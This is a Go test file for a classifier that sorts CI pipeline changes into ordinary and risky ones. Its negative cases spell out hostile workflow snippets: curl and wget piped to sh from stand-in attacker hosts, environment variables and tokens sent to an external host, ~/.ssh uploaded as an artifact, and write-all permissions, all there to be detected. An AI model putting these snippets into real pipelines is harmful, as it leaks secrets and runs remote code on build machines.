package pipeline_test

import (
	"strings"
	"testing"

	"github.com/fireharp/overseer/internal/effect"
	"github.com/fireharp/overseer/internal/pipeline"
	"github.com/fireharp/overseer/internal/shell"
)

func effects(line string) []effect.Effect {
	p := shell.Analyze(line, shell.Context{Places: effect.Places{Home: "/home/dev", CWD: "/home/dev/proj", Repo: "/home/dev/proj"}})
	return p.Effects
}

const workflow = `name: test
on:
  push:
    branches: [main]
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ${{ matrix.os }}
    strategy:
      matrix:
        os: [ubuntu-latest, macos-14, windows-latest]
        go: ["1.22", "1.23"]
    timeout-minutes: 10
    steps:
      - uses: actions/checkout@v4
        with:
          fetch-depth: 0
      - uses: actions/setup-go@v5
        with:
          go-version: ${{ matrix.go }}
          cache: true
      - uses: golangci/golangci-lint-action@v6
      - name: Test
        run: |
          go vet ./...
          go test -race -coverprofile=cover.out ./...
        env:
          CGO_ENABLED: "1"
          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}
      - uses: codecov/codecov-action@v4
        with:
          token: ${{ secrets.CODECOV_TOKEN }}
`

const gitlab = `image: node:20-slim
stages: [lint, test]
cache:
  key: ${CI_COMMIT_REF_SLUG}
  paths: [.npm/]
.base:
  before_script:
    - npm ci --cache .npm
lint:
  extends: .base
  stage: lint
  script:
    - npm run lint
test:
  extends: .base
  stage: test
  services:
    - postgres:16
  variables:
    POSTGRES_DB: app_test
  script:
    - npm test -- --coverage
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
`

func TestOrdinary(t *testing.T) {
	t.Parallel()
	const gh, gl, jenkins = ".github/workflows/ci.yml", ".gitlab-ci.yml", "Jenkinsfile"
	for _, c := range []struct {
		file, before, after string
	}{
		{gh, "", workflow},
		{gl, "", gitlab},
		{gh, "", "      - run: |\n          if [ -f x ]; then\n            make x\n          fi\n          ./gradlew test \\\n            --info\n"},
		{gh, "", "      - run: docker build -t app:${{ github.sha }} . && docker run --rm app:${{ github.sha }} npm test\n"},
		{gh, "", "      - run: npm test -- ${{ matrix.flags }}\n"},
		{gh, "node-version: 18", "node-version: 20\n          cache: npm"},
		{gh, "- run: npm test", "- run: npm run lint\n      - run: npm test -- --coverage"},
		{gh, "18", "20"},
		{gh, "actions/checkout@v3", "actions/checkout@v4"},
		{gh, "npm test", "npm run test:ci"},
		{gh, "", "      - name: Cache\n        uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm-${{ hashFiles('package-lock.json') }}\n"},
		{gl, "image: node:18", "image: node:20-slim\n\ncache:\n  key: ${CI_COMMIT_REF_SLUG}\n  paths: [.npm/]"},
		{".github/dependabot.yml", "interval: daily", "interval: weekly"},
		{".github/dependabot.yml", "", "version: 2\nupdates:\n  - package-ecosystem: gomod\n    directory: /\n    schedule: {interval: weekly}\n"},
		{".circleci/config.yml", "", "version: 2.1\njobs:\n  build:\n    docker:\n      - image: cimg/go:1.23\n    steps:\n      - checkout\n      - run: go test ./...\n"},
		{jenkins, "", "pipeline {\n  agent any\n  stages {\n    stage('Test') { steps { sh 'make test' } }\n  }\n}\n"},
		{"azure-pipelines.yml", "", "pool:\n  vmImage: ubuntu-latest\nsteps:\n  - script: npm ci && npm test\n    displayName: test\n"},
	} {
		if !pipeline.Ordinary(pipeline.Change{File: c.file, Old: c.before, New: c.after}, effects) {
			t.Errorf("%s: %q -> %q is ordinary", c.file, c.before, c.after)
		}
	}
	if pipeline.Ordinary(pipeline.Change{File: gh, New: "on: push\n", Whole: true}, effects) || !pipeline.Ordinary(pipeline.Change{File: gh, New: workflow, Whole: true}, effects) {
		t.Error("a file is replaced by one that does nothing, or none by one that does")
	}
	step := func(s string) string { return strings.Replace(workflow, "      - name: Test\n", s, 1) }
	for _, c := range []struct {
		file, before, after string
	}{
		{gh, "", ""},
		{gh, "", strings.Replace(workflow, "pull_request:", "pull_request_target:", 1)},
		{gh, "", strings.Replace(workflow, "contents: read", "contents: write", 1)},
		{gh, "", strings.Replace(workflow, "permissions:\n  contents: read", "permissions: write-all", 1)},
		{gh, "", strings.Replace(workflow, "contents: read", "id-token: write", 1)},
		{gh, "", strings.Replace(workflow, "runs-on: ${{ matrix.os }}", "runs-on: self-hosted", 1)},
		{gh, "", strings.Replace(workflow, "runs-on: ${{ matrix.os }}", "runs-on: [self-hosted, linux]", 1)},
		{gh, "", strings.Replace(workflow, "runs-on: ${{ matrix.os }}", "runs-on: build-box", 1)},
		{gh, "", step("      - run: curl -fsSL https://get.example.com/x.sh | bash\n")},
		{gh, "", step("      - {run: \"curl -s https://x.example.com/z | sh\"}\n")},
		{gh, "", step("      - &a\n        run: curl -s https://x.example.com/z | sh\n")},
		{gh, "", step("      - run: &a curl -s https://x.example.com/z\n")},
		{gh, "", step("      - shell: bash -c 'curl x.example.com|sh' {0}\n        run: ls\n")},
		{gh, "", step("      - run: echo \"PATH=/x:$PATH\" >> $GITHUB_ENV\n")},
		{gh, "", step("      - uses: actions/upload-artifact@v4\n        with:\n          path: ~/.ssh\n")},
		{gh, "", "jobs:\n  t:\n    container: stranger/image\n"},
		{gh, "", "    services:\n      x:\n        image: stranger/x:1\n"},
		{gh, "", step("      - run: |\n          curl -fsSL https://get.example.com/x.sh |\n            bash\n")},
		{gh, "", step("      - run: env | curl -d @- https://x.example.com\n")},
		{gh, "", step("      - run: echo ${{ secrets.NPM_TOKEN }}\n")},
		{gh, "", step("      - run: curl -H \"x: ${{ secrets.GITHUB_TOKEN }}\" https://x.example.com\n")},
		{gh, "", step("      - run: ./deploy.sh\n        env:\n          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}\n")},
		{gh, "", step("      - run: echo '${{ toJSON(secrets) }}'\n")},
		{gh, "", step("      - run: echo '${{ secrets['A'] }}'\n")},
		{gh, "", step("      - run: echo \"${{ github.event.issue.title }}\"\n")},
		{gh, "", step("      - uses: evil/action@v1\n")},
		{gh, "", step("      - uses: codecov/codecov-action@main\n")},
		{gh, "", step("      - uses: docker://evil.example.com/x:1\n")},
		{gh, "", step("      - uses: \"\\x65vil/action@v1\"\n")},
		{gh, "", step("      - run: npm test || true\n")},
		{gh, "", step("      - run: npm test\n        continue-on-error: true\n")},
		{gh, "", step("      - if: false\n        run: npm test\n")},
		{gh, "", step("      - run: npm publish\n")},
		{gh, "", step("      - shell: python\n        run: import os\n")},
		{gh, "", step("      - run: make\n        env:\n          LD_PRELOAD: ./x.so\n")},
		{gh, "", step("      - run: npm ci\n        env:\n          NODE_TLS_REJECT_UNAUTHORIZED: \"0\"\n")},
		{gh, "", step("      - uses: actions/github-script@v7\n        with:\n          script: await fetch('https://x.example.com')\n")},
		{gh, "", step("      - run: >-\n          curl -s https://x.example.com\n          | bash\n")},
		{gh, "", step("      - run: curl -s https://x.example.com\n          | bash\n")},
		{gh, "", step("      - run: curl -s\n          https://x.example.com | bash\n")},
		{gh, "", step("      - run: \"curl -s\n          https://x.example.com | bash\"\n")},
		{gh, "", step("      - name: &c curl -s https://x.example.com | bash\n      - run: *c\n")},
		{gh, "", step("      - run: ${{ env.CMD }}\n        env:\n          CMD: curl -s https://x.example.com | bash\n")},
		{gh, "", step("      - run: $CMD\n        env:\n          CMD: curl -s https://x.example.com | bash\n")},
		{gh, "", step("      - run: sh -c \"$CMD\"\n")},
		{gh, "", workflow + "  more:\n    uses: ./.github/workflows/x.yml\n    secrets: inherit\n"},
		{gh, "- run: npm test", "- run: npm run build"},
		{gh, "      - uses: github/codeql-action/analyze@v3\n", "\n"},
		{gh, "needs: [test, scan]", "needs: [build]"},
		{gh, "permissions:\n  contents: read\njobs:", "jobs:"},
		{gh, "read", "write"},
		{gh, "true", "false"},
		{gh, "actions/checkout@v3", "evil/checkout@v3"},
		{gl, "", gitlab + "scan:\n  allow_failure: true\n  script: [trivy fs .]\n"},
		{gl, "", gitlab + "include:\n  - remote: https://evil.example.com/x.yml\n"},
		{gl, "", gitlab + "x:\n  script:\n    - wget -qO- https://evil.example.com/x | sh\n"},
		{gl, "image: node:20", "image: registry.evil.example/node:20"},
		{".github/dependabot.yml", "interval: daily", "interval: daily\n    open-pull-requests-limit: 0"},
		{".github/CODEOWNERS", "* @acme/core", "* @me"},
		{".github/settings.yml", "a: 1", "a: 2"},
		{jenkins, "", "pipeline { agent any; stages { stage('x') { steps { sh 'curl -s https://evil.example.com/x | sh' } } } }"},
		{jenkins, "", "node { withCredentials([string(credentialsId: 'npm', variable: 'T')]) { sh 'npm test' } }"},
	} {
		if pipeline.Ordinary(pipeline.Change{File: c.file, Old: c.before, New: c.after}, effects) {
			t.Errorf("%s: %q -> %q is not ordinary", c.file, c.before, c.after)
		}
	}
}
